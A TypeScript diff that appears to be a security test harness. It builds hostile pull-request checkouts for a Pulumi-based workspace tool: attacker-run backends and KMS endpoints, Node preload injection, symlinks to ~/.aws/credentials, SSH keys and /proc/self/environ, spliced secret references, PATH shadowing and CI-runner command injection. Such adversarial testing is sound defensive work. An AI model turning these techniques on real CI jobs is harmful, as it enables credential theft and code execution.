@@ -1,0 +1,388 @@
+/** What a pull request can put into a checkout to make a job run code, send a secret away, or read what is not its own. */
+import { mkdirSync, rmSync, symlinkSync } from "node:fs";
+import { dirname, join } from "node:path";
+import type { Random } from "../../chaos/random.js";
+import type { Target } from "./target.js";
+
+/** Part of a hostile checkout. Several fit into one, unless they replace each other's files. */
+export interface Attack {
+  readonly name: string;
+  readonly apply: (target: Target, random: Random) => void;
+  /** The environment of the job, where the attack needs a careless one. */
+  readonly env?: (target: Target) => NodeJS.ProcessEnv;
+}
+
+/** A document that is fine, with more text in it. */
+function document(more: string): string {
+  return `version: 1\nworkspace: acme\n${more}`;
+}
+
+const group = (description: string) => `groups:\n  QA: { description: ${JSON.stringify(description)} }\n`;
+const pipeline = (commands: readonly string[]) =>
+  `projects:\n  web:\n    pipelines:\n      deploy:\n        triggerMode: MANUAL\n        refType: BRANCH\n        refName: main\n        actions:\n` +
+  `          - { name: Build, type: BUILD, triggerTime: ON_EVERY_EXECUTION, containerImageName: node, containerImageTag: "22", ` +
+  `executeCommands: ${JSON.stringify(commands)} }\n`;
+
+const write = (path: string, text: (target: Target) => string) => (target: Target) =>
+  target.file(path, text(target));
+const link = (target: Target, path: string, to: string): void => {
+  const file = join(target.checkout, path);
+  mkdirSync(dirname(file), { recursive: true });
+  rmSync(file, { force: true, recursive: true });
+  symlinkSync(to, file);
+};
+
+/** A state with one object that is not ours, of a plugin in the checkout. */
+const foreignState = (type: string, more: object = {}) =>
+  JSON.stringify({
+    version: 3,
+    checkpoint: {
+      stack: "organization/workspace-automation/dev",
+      latest: {
+        manifest: { time: "2026-01-01T00:00:00Z", magic: "", version: "" },
+        resources: [
+          {
+            urn: `urn:pulumi:dev::workspace-automation::${type}::one`,
+            custom: true,
+            id: "1",
+            type,
+            inputs: { __provider: "theirs" },
+            outputs: { __provider: "theirs" },
+            provider: "urn:pulumi:dev::workspace-automation::pulumi:providers:theirs::default::1",
+          },
+        ],
+        ...more,
+      },
+    },
+  });
+
+/** A state that refers to secrets by itself. */
+const referringState = (target: Target) =>
+  foreignState("pulumi-nodejs:dynamic/workspace-automation:Group", {
+    resources: ["PULUMI_CONFIG_PASSPHRASE", "GITHUB_TOKEN", "MY_SECRET"].map((name, index) => {
+      const props = {
+        __provider:
+          'exports.handler=()=>require("module").createRequire(process.cwd()+"/")("pulumi-workspace-automation/provider").get("Group")',
+        name: `\${secret:env:${name}}`,
+        description: `\${secret:file:/proc/self/environ} \${secret:file:${target.home}/.aws/credentials}`,
+        workspace: "acme",
+        address: `${target.attacker}/workspaces/acme`,
+        groupId: index,
+        __secretReferences: ["name", "description", "workspace"],
+      };
+      return {
+        urn: `urn:pulumi:dev::workspace-automation::pulumi-nodejs:dynamic/workspace-automation:Group::groups/${index}`,
+        custom: true,
+        id: `acme/${index}`,
+        type: "pulumi-nodejs:dynamic/workspace-automation:Group",
+        inputs: props,
+        outputs: props,
+      };
+    }),
+  });
+
+const OWN_STATE = ".pulumi-state/.pulumi/stacks/workspace-automation/dev.json";
+
+/** The state of the checkout counts only where the environment names no backend. */
+const withoutBackend = (): NodeJS.ProcessEnv => ({ PULUMI_BACKEND_URL: "", PULUMI_ACCESS_TOKEN: "" });
+const withoutToken = (): NodeJS.ProcessEnv => ({ PULUMI_BACKEND_URL: "" });
+
+function plantState(target: Target, text: string): void {
+  target.file(".pulumi-state/.pulumi/meta.yaml", "version: 1\n");
+  target.file(OWN_STATE, text);
+}
+
+const plugin = (target: Target) => {
+  target.program("theirs/pulumi-resource-theirs");
+  target.program("theirs/pulumi-resource-pulumi-nodejs");
+  return JSON.stringify({
+    name: "workspace-automation",
+    runtime: "nodejs",
+    main: "./theirs",
+    plugins: {
+      providers: ["theirs", "pulumi-nodejs", "workspace-automation"].map((name) => ({
+        name,
+        path: "./theirs",
+      })),
+      languages: [{ name: "nodejs", path: "./theirs" }],
+    },
+  });
+};
+
+/** All parts, by what they abuse. */
+export const attacks: readonly Attack[] = [
+  {
+    name: "a second project file that names a plugin, and a state that needs it",
+    apply: (target) => {
+      target.file(".pulumi-state/Pulumi.json", plugin(target));
+      target.file("Pulumi.json", plugin(target));
+      plantState(target, foreignState("theirs:index:Thing"));
+    },
+    env: withoutBackend,
+  },
+  {
+    name: "a project file with a plugin, a program and Node.js options",
+    apply: (target) => {
+      target.file("theirs/index.js", target.script("theirs/index.js"));
+      target.file(
+        "Pulumi.yaml",
+        plugin(target).replace(
+          '"nodejs",',
+          '{"name":"nodejs","options":{"nodeargs":"--require ./theirs/index.js"}},',
+        ),
+      );
+    },
+  },
+  {
+    name: "a backend of the author's that is a service",
+    apply: write(
+      "Pulumi.yaml",
+      ({ attacker }) => `name: shop\nruntime: nodejs\nbackend: { url: ${attacker} }\n`,
+    ),
+    env: withoutToken,
+  },
+  {
+    name: "a backend of the author's that is a bucket",
+    apply: (target, random) => {
+      const { host } = new URL(target.attacker);
+      const url = random.pick([
+        `s3://state?endpoint=${target.attacker}&s3ForcePathStyle=true&region=us-east-1&disableSSL=true`,
+        `azblob://state?protocol=http&domain=${host}&localemu=true&storage_account=a`,
+      ]);
+      target.file("Pulumi.yaml", `name: shop\nruntime: nodejs\nbackend: { url: "${url}" }\n`);
+    },
+    env: withoutToken,
+  },
+  {
+    name: "an address and a token of the author's in the stack's configuration",
+    apply: (target) => {
+      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
+      target.file(
+        "Pulumi.dev.yaml",
+        `config:\n  workspace-automation:baseUrl: ${target.attacker}\n  workspace-automation:token: theirs\n  workspace-automation:allowInsecure: "true"\n`,
+      );
+    },
+  },
+  {
+    name: "an environment that is defined in the stack's file",
+    apply: (target) => {
+      target.file("theirs/preload.cjs", target.script("theirs/preload.cjs"));
+      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
+      target.file(
+        "Pulumi.dev.yaml",
+        `environment:\n  values:\n    environmentVariables: { NODE_OPTIONS: --require ./theirs/preload.cjs, HTTPS_PROXY: "${target.attacker}" }\n`,
+      );
+    },
+  },
+  {
+    name: "a secrets provider at an address of the author's",
+    apply: (target) => {
+      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
+      target.file(
+        "Pulumi.dev.yaml",
+        `secretsprovider: "awskms://alias/a?region=us-east-1&endpoint=${target.attacker}"\nencryptedkey: AAAA\n`,
+      );
+    },
+  },
+  {
+    name: "a reference that is joined from harmless parts",
+    apply: write("workspace.yaml", () =>
+      document(
+        pipeline([
+          "echo ${env:NOPE:-$}{secret:env:PULUMI_CONFIG_PASSPHRASE} ${env:NOPE:-$}{secret:file:/proc/self/environ} ${secret:env:HARMLESS}",
+          "${file:dollar}{secret:env:GITHUB_TOKEN}",
+          "$${secret:env:WORKSPACE_AUTOMATION_TOKEN}$$${env:NOPE:-{}secret:env:CI_JOB_TOKEN}",
+        ]),
+      ),
+    ),
+  },
+  {
+    name: "a reference that a template or an overlay completes",
+    apply: (target) => {
+      target.file(
+        "workspace.yaml",
+        document(
+          "templates:\n  run: { params: { name: { default: x } }, projects: {} }\n" +
+            group("${env:NOPE:-$}{secret:config:a} ${secret:env:HARMLESS}"),
+        ),
+      );
+      target.file("workspace.dev.yaml", `version: 1\n${group("$" + "{env:NOPE:-$}{secret:env:MY_SECRET}")}`);
+    },
+  },
+  {
+    name: "variables of the job in names, texts and the workspace",
+    apply: (target, random) => {
+      const name = random.pick([
+        "GITHUB_TOKEN",
+        "CI_JOB_TOKEN",
+        "AWS_SECRET_ACCESS_KEY",
+        "DATABASE_URL",
+        "MY_SECRET",
+        "NPM_TOKEN",
+      ]);
+      const form = random.pick([`\${env:${name}}`, `\${env:${name}:-x}`, `\${secret:env:${name}}`]);
+      const place = random.pick(["key", "name", "text", "workspace"]);
+      target.file(
+        "workspace.yaml",
+        place === "workspace"
+          ? `version: 1\nworkspace: "${form}"\n`
+          : document(
+              place === "text"
+                ? group(form)
+                : `groups:\n  ${place === "key" ? `"n ${form}": {}` : `QA: { name: "n ${form}" }`}\n`,
+            ),
+      );
+    },
+  },
+  {
+    name: "files of the job in names and texts",
+    apply: (target, random) => {
+      const path = random.pick([
+        ".git/config",
+        ".env",
+        ".npmrc",
+        "../home/.aws/credentials",
+        `${target.home}/.ssh/id_ed25519`,
+        "/proc/self/environ",
+        "link/credentials",
+        "../victim/notes.yaml",
+      ]);
+      link(target, "link", join(target.home, ".aws"));
+      const kind = random.pick(["file", "secret:file"]);
+      const form = `\${${kind}:${path}}`;
+      target.file(
+        "workspace.yaml",
+        document(random.chance(0.5) ? group(form) : `groups:\n  QA: { name: "n ${form}" }\n`),
+      );
+    },
+  },
+  {
+    name: "includes and overlays that are files of tools",
+    apply: (target, random) => {
+      const path = random.pick([".git/config", ".env", ".npmrc", "notes.yaml", "../victim/notes.yaml"]);
+      link(target, "notes.yaml", join(target.victim, "notes.yaml"));
+      link(target, "workspace.dev.yaml", join(target.home, ".aws/credentials"));
+      target.file("workspace.yaml", `include: [${path}]\n${document(group("x"))}`);
+    },
+  },
+  {
+    name: "a workspace file that is a link to a file of the user's",
+    apply: (target, random) =>
+      link(
+        target,
+        "workspace.yaml",
+        join(target.home, random.pick([".aws/credentials", ".npmrc", ".git-credentials", ".netrc"])),
+      ),
+  },
+  {
+    name: "stack and project files that are links to files of the user's",
+    apply: (target, random) => {
+      link(
+        target,
+        random.pick(["Pulumi.yaml", "Pulumi.dev.yaml", "people.yaml", "drift-ignore.yaml"]),
+        join(target.home, ".aws/credentials"),
+      );
+    },
+  },
+  {
+    name: "a state folder and reports that are links to the victim's files",
+    apply: (target) => {
+      link(target, ".pulumi-state", target.victim);
+      for (const report of ["preview.md", "drift.json", "report.html", "plan.json"])
+        link(target, report, join(target.victim, "notes.yaml"));
+    },
+    env: withoutBackend,
+  },
+  {
+    name: "a state that refers to secrets, at an address of the author's",
+    apply: (target) => plantState(target, referringState(target)),
+    env: withoutBackend,
+  },
+  {
+    name: "a state with code, or with the same key in another case",
+    apply: (target, random) => {
+      const text = foreignState("pulumi-nodejs:dynamic/theirs:Thing");
+      plantState(target, random.chance(0.5) ? text : text.replace('"resources"', '"Resources"'));
+    },
+    env: withoutBackend,
+  },
+  {
+    name: "programs of the checkout under the names of tools",
+    apply: (target) => {
+      for (const name of ["pulumi", "node", "go", "git", "tar", "npm", "pulumi-resource-pulumi-nodejs"])
+        for (const folder of ["node_modules/.bin", "bin"]) target.program(`${folder}/${name}`);
+      target.file("node_modules/pulumi-workspace-automation/index.js", target.script("node_modules"));
+      target.file(
+        "node_modules/pulumi-workspace-automation/package.json",
+        '{"name":"pulumi-workspace-automation","version":"0.1.0","main":"index.js"}',
+      );
+      target.file("workspace.ts", target.script("workspace.ts"));
+      target.file(".prettierrc.cjs", target.script(".prettierrc.cjs"));
+    },
+    env: ({ checkout, env }) => ({
+      PATH: [join(checkout, "node_modules/.bin"), "bin", ".", env["PATH"]].join(":"),
+    }),
+  },
+  {
+    name: "a cache in the checkout, with a toolchain of the author's",
+    apply: (target) => {
+      const folder = "cache/toolchain/pulumi-3.259.0-linux-x64";
+      for (const name of ["pulumi", "pulumi-language-nodejs", "pulumi-resource-pulumi-nodejs"])
+        target.program(`${folder}/bin/${name}`);
+      target.file(
+        `${folder}/manifest.json`,
+        JSON.stringify({ format: 1, version: "3.259.0", files: {}, madeBy: "installer", madeAt: "" }),
+      );
+    },
+    env: ({ checkout, env }) => ({
+      PULUMI_BIN: "",
+      PATH: env["PATH"]?.split(":").slice(1).join(":"),
+      WORKSPACECTL_CACHE: join(checkout, "cache"),
+    }),
+  },
+  {
+    name: "a fleet that maps credentials, names a module and runs a command",
+    apply: (target) => {
+      target.program("gate.sh");
+      target.file("evil.ts", target.script("evil.ts"));
+      target.file(
+        "fleet.yaml",
+        `version: 1\nworkspaces:\n  us: { file: workspace.yaml, backend: "${target.attacker}", environment: { WORKSPACE_VAR_A: GITHUB_TOKEN } }\n` +
+          `  eu: { file: evil.ts, allowPaths: ["${target.home}"] }\n` +
+          "waves: [{ name: canary, workspaces: [us], gate: { command: ./gate.sh } }]\n",
+      );
+    },
+  },
+  {
+    name: "names that control a terminal or a runner",
+    apply: write("workspace.yaml", () =>
+      document(
+        `groups:\n  "\\e]0;owned\\a::set-env name=A::B": { description: "::add-mask::x\\n##vso[task.setvariable]" }\n`,
+      ),
+    ),
+  },
+];
+
+/** Commands that jobs run on a checkout, in an order in which each finds what it needs. */
+export const commands: Readonly<Record<string, readonly string[]>> = {
+  validate: ["validate"],
+  lint: ["lint"],
+  render: ["render"],
+  up: ["up", "--yes", "--create-stack"],
+  preview: ["preview", "--format", "markdown=preview.md", "--format", "json=plan.json", "--details"],
+  drift: ["drift", "--format", "json=drift.json", "--format", "html=report.html"],
+  import: ["import"],
+  export: ["export", "-o", "workspace.yaml"],
+  compare: ["compare", "workspace.yaml", "connection:default"],
+  "fleet preview": ["fleet", "preview"],
+  "fleet up": ["fleet", "up", "--yes"],
+  replicate: ["replicate", "--from", "us", "--to", "eu", "--yes"],
+  "config get": ["config", "get"],
+  "stack ls": ["stack", "ls"],
+};
+
+/** Writes the checkout as it is before an attack. */
+export function writeHarmless(target: Target): void {
+  target.file("workspace.yaml", document(group("Testers")));
+  target.file("dollar", "$");
+}
